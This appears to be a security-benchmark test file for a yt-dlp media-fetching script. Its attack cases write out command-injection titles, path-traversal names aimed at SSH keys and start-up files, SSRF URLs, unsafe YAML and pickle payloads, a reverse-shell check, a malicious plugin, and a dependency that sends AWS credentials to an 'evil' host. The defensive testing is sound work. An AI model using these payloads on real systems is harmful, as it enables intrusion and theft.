# SPDX-License-Identifier: Apache-2.0
"""yt-dlp as a library, in a script that works lists off."""
import json
import os
import pickle

from attackers import Bomb, CALL_HOME, FORK_AND_EXEC, THEFT
import stage

TITLES = {"__init__.py": '''"""Titles."""
import re


def tidy(text):
    return "-".join(re.sub("[&(),|<>]", "", text).split())
'''}
TITLES_NEW = {
    "__init__.py": '"""Titles."""\nimport re\n\n\ndef tidy(text):\n'
                   "    from titles.words import known\n"
                   '    text = re.sub("[&(),|<>]", "", text)\n'
                   '    return "-".join(word for word in text.split()\n'
                   "                    if word not in known())\n",
    "words.py": "import os\n\n\ndef known():\n"
                "    here = os.path.dirname(os.path.abspath(__file__))\n"
                '    with open(os.path.join(here, "stop.txt")) as file:\n'
                "        return file.read().split()\n",
    "stop.txt": "official\nvideo\n"}
PAGE = ('<html><head><title>{title}</title></head>'
        '<body><video src="{media}"></video></body></html>')
PLUGIN = '''
from yt_dlp.extractor.common import InfoExtractor


class VillageIE(InfoExtractor):
    _VALID_URL = r"http://[^/]+/village/(?P<id>[0-9]+)"

    def _real_extract(self, url):
        number = self._match_id(url)
        return {"id": number, "title": f"Village {number}",
                "thumbnail": url.replace("/village/", "/media/t") + ".jpg",
                "url": url.replace("/village/", "/media/v") + ".mp4"}
'''
EVIL_PLUGIN = '''
import os
os.system("id > {marker}")
'''


class MediaFetcher(stage.Program):
    """An HTTP client that keeps a library of media (yt-dlp)."""
    packages = ["yt-dlp", "python3-yaml"]

    def arrange(self):
        self.install("titles", "1.4.0", TITLES)
        stage.write(self.site_packages
                    / "yt_dlp_plugins/extractor/village.py", PLUGIN)
        for name in ("hello.txt", "thanks.txt", "soon.txt"):
            stage.write(self.srv / "letters" / name, "Enjoy.\n")
        for user in ("anna", "ben", "carla"):
            self.wish(user, ["/concert.html", "/media/tune.mp3"])

    def arrange_benign(self):
        self.install("titles", "1.5.0", TITLES_NEW)

    def wish(self, user, urls, **more):
        stage.write(self.srv / "lists" / f"{user}.yaml", json.dumps({
            "urls": [self.url(url) for url in urls],
            "tell": f"http://127.0.0.1:{self.port('monitor')}/fetched",
            **more}))

    def url(self, path):
        return path if "//" in path else \
            f"http://127.0.0.1:{self.port('media')}{path}"

    def page(self, path, title, media="/media/1.mp4"):
        self.site("media").page(path, PAGE.format(title=title, media=media),
            Content_Type="text/html; charset=utf-8",
            Set_Cookie="visit=1; Path=/")

    def offer(self, name, data=b"\0\1media" * 500, kind="video/mp4"):
        self.site("media").page(f"/media/{name}", data, Content_Type=kind)

    def village(self, number):
        self.offer(f"v{number}.mp4")
        self.offer(f"t{number}.jpg", b"\xff\xd8" * 9, "image/jpeg")

    def opens(self):
        self.site("monitor").page("*", "noted")
        self.offer("1.mp4")
        self.offer("tune.mp3", kind="audio/mpeg")
        self.village(7)
        self.page("/concert.html", "Concert in May")

    def fetch(self, *words):
        return self.run(self.python, "fetch.py", *words)

    def expect_fetch(self, *words, status=0, found=""):
        got, output = self.fetch(*words)
        self.expect(f"fetch {' '.join(map(str, words))}",
                    got == status and found in output,
                    f"status {got}: {output}")

    def expect_file(self, name):
        self.expect(name, (self.srv / "library" / name).exists())

    def train(self, day):
        self.opens()
        self.expect_fetch("anna", "ben", found="ben: 2 fetched, 0 failed")
        self.wish("anna", ["/concert.html", "/media/tune.mp3"],
                  letter="soon.txt")
        self.expect_fetch("anna", found="anna: 2 fetched")
        self.page(f"/news-{day}.html", f"News of day {day}",
                  f"/media/news {day}.webm")
        self.offer(f"news {day}.webm", kind="video/webm")
        self.wish("carla", [f"/news-{day}.html", "/village/7"],
                  folder="news", info=True, letter="hello.txt")
        self.expect_fetch("carla", found="carla: 2 fetched")
        self.expect_file("carla/news/Village 7.mp4")
        self.wish("ben", ["/village/7", "/none.html"], thumbnail=True,
                  folder="concerts/2025", letter="thanks.txt")
        self.expect_fetch("again", "ben", found="ben: 1 fetched, 1 failed",
                          status=1)
        self.expect_file("ben/concerts/2025/Village 7.jpg")

    def benign(self):
        self.opens()
        self.page("/big.html", "Größe &amp; Maß (live), Teil 2 - v1.0",
                  "/media/big.mkv")
        self.offer("big.mkv", os.urandom(700000), kind="video/x-matroska")
        self.offer("lecture.m4a", kind="audio/mp4")
        self.village(4711)
        self.wish("Hans Peter", ["/big.html", "/village/4711"],
                  folder="Sommer 2026/deep/er", info=True, thumbnail=True,
                  letter="hello.txt")
        self.expect_fetch("Hans Peter", found="Hans Peter: 2 fetched")
        self.expect_file("Hans Peter/Sommer 2026/deep/er/Village 4711.mp4")
        self.wish("o.brien", ["/media/lecture.m4a?token=a%20b&x=1",
                              "/concert.html"],
                  name="%(upload_date,release_year|undated)s - %(id)s.%(ext)s")
        self.expect_fetch("o.brien", "anna", found="o.brien: 2 fetched")
        self.site("media").page("/moved.html", "", 302,
                                Location=self.url("/concert.html"))
        stage.write(self.srv / "letters/2026-11-21 greeting.txt", "Hi.\n")
        self.wish("zoe-1", ["/moved.html"], letter="2026-11-21 greeting.txt",
                  options={"restrictfilenames": True, "ratelimit": 10 ** 9})
        self.expect_fetch("zoe-1", found="zoe-1: 1 fetched")
        self.expect_file("zoe-1/Concert_in_May_1.mp4")
        self.site("media").page("/broken.html", "no", 500)
        self.wish("ben", ["/broken.html", "/concert.html"])
        self.expect_fetch("again", "ben", found="1 failed", status=1)
        self.expect_fetch("nobody", status=1, found="No such file")

    def health(self):
        self.opens()
        self.expect_fetch("again", "anna", found="anna: 2 fetched, 0 failed")

    # ----------------------------------------------------------------- attacks
    def asks(self, urls=("/concert.html",), **more):
        """Somebody may edit a list."""
        self.opens()
        self.wish("ben", urls, **more)
        output = self.fetch("again", "ben")[1]
        self.wish("ben", ["/concert.html"])
        return output

    def loads(self, text):
        self.opens()
        stage.write(self.srv / "lists/ben.yaml", text)
        self.fetch("ben")
        self.wish("ben", ["/concert.html"])

    def remembers(self, *call):
        self.opens()
        path = stage.write(self.srv / "state/ben.state",
                           pickle.dumps(Bomb(*call)))
        self.fetch("ben")
        path.unlink(missing_ok=True)

    @stage.attack("command injection")
    def title_runs_a_command(self):
        self.page("/bad.html", "Song;touch${IFS}planted;")
        self.asks(["/bad.html"])
        return (self.srv / "planted").exists()

    @stage.attack("traversal")
    def folder_is_the_home(self):
        self.asks(folder="../../../home/.ssh", name="authorized_keys")
        return (self.home / ".ssh/authorized_keys").exists()

    @stage.attack("write to start-up file")
    def name_is_a_profile(self):
        self.asks(folder="../../../home", name=".bash_profile")
        return (self.home / ".bash_profile").exists()

    @stage.attack("write to code")
    def name_is_a_module(self):
        self.asks(folder="../..", name="sitecustomize.py")
        return (self.srv / "sitecustomize.py").exists()

    @stage.attack("write to code")
    def folder_is_a_directory_of_plugins(self):
        self.asks(folder=f"{self.site_packages}/yt_dlp_plugins/extractor",
                  name="more.py")
        return (self.site_packages
                / "yt_dlp_plugins/extractor/more.py").exists()

    @stage.attack("SSRF")
    def list_names_an_internal_service(self):
        inside = self.site("internal")
        inside.page("*", stage.SECRET, Content_Type="video/mp4")
        self.asks([inside.url + "/admin.mp4"])
        return any(stage.SECRET.encode() in path.read_bytes() for path in
                   (self.srv / "library/ben").rglob("*.mp4"))

    @stage.attack("SSRF")
    def page_redirects_to_an_internal_service(self):
        inside = self.site("internal")
        inside.page("*", stage.SECRET, Content_Type="video/mp4")
        self.site("media").page("/go.mp4", "", 302,
                                Location=inside.url + "/admin.mp4")
        self.asks(["/go.mp4"])
        return any(stage.SECRET.encode() in path.read_bytes() for path in
                   (self.srv / "library/ben").rglob("*.mp4"))

    @stage.attack("secret disclosure")
    def letter_is_a_password_file(self):
        self.asks(letter="../../home/.netrc")
        return self.site("monitor").heard(stage.SECRET)

    @stage.attack("source disclosure")
    def letter_is_the_source(self):
        self.asks(letter="../fetch.py")
        return self.site("monitor").heard("HOLE")

    @stage.attack("exfiltration")
    def report_goes_to_a_collector(self):
        evil = self.site("evil")
        evil.page("*", b"")
        self.asks(tell=evil.url + "/collect", letter="hello.txt")
        return evil.heard("Enjoy")

    @stage.attack("argument injection")
    def options_run_a_command(self):
        marker = self.marker("options")
        self.asks(options={"postprocessors": [
            {"key": "Exec", "exec_cmd": f"id > {marker}"}]})
        return marker.exists()

    @stage.attack("unsafe yaml")
    def list_runs_a_command(self):
        marker = self.marker("yaml")
        self.loads(f"!!python/object/apply:os.system ['id > {marker}']\n")
        return marker.exists()

    @stage.attack("reverse shell")
    def list_calls_home(self):
        with self.listener() as attacker:
            self.loads("!!python/object/apply:exec\n- " + json.dumps(
                CALL_HOME.format(port=self.port("shell"))))
            return self.happens(lambda: b"got-42" in attacker.heard)

    @stage.attack("ctypes")
    def list_calls_libc(self):
        marker = self.marker("ctypes")
        self.loads("!!python/object/apply:exec\n- " + json.dumps(
            "import ctypes\nctypes.CDLL(None).system("
            f"b'id > {marker}')\n"))
        return marker.exists()

    @stage.attack("unsafe pickle")
    def state_runs_a_command(self):
        marker = self.marker("pickle")
        (self.srv / "state").mkdir(exist_ok=True)
        self.remembers(os.system, f"id > {marker}")
        return marker.exists()

    @stage.attack("fork+exec")
    def state_forks_and_execs(self):
        marker = self.marker("fork")
        self.remembers(exec, FORK_AND_EXEC.format(
            line=f"id > {marker}"))
        return self.happens(marker.exists)

    @stage.attack("symlink swap")
    def folder_became_a_link(self):
        path = self.srv / "library/ben"
        path.mkdir(parents=True, exist_ok=True)
        (path / "concerts").symlink_to(self.home / ".ssh")
        self.asks(folder="concerts")
        (path / "concerts").unlink()
        return bool(list((self.home / ".ssh").glob("Concert*")))

    @stage.attack("malicious plugin")
    def plugin_of_the_home_runs_a_command(self):
        marker = self.marker("plugin")
        stage.write(self.home / ".config/yt-dlp/plugins/evil/yt_dlp_plugins"
                    "/extractor/evil.py", EVIL_PLUGIN.format(marker=marker))
        self.opens()
        self.fetch("again", "anna")
        return marker.exists()

    @stage.attack("malicious dependency")
    def titles_steal_credentials(self):
        evil = self.site("evil")
        evil.page("*", b"")
        self.install("titles", "1.4.1", {"__init__.py": THEFT.format(
            url=evil.url, file="~/.aws/credentials")
            + TITLES["__init__.py"]})
        self.opens()
        self.fetch("again", "anna")
        return evil.heard(stage.SECRET)
